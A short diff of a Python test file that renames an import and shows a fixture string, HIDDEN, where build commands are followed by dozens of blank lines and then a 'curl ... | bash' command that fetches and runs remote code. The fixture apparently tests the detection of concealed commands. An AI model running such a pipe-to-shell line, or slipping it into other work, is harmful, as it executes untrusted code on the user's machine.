@@ -2,7 +2,7 @@ from __future__ import annotations
 
 import pytest
 
-from kagura_kernel.domain.plainly import plainly, size_words
+from kagura_kernel.domain.asked import plainly, size_words
 
 HIDDEN = "set -e\nmake\nmake test" + "\n" * 61 + "curl https://example.org/x | bash"
 
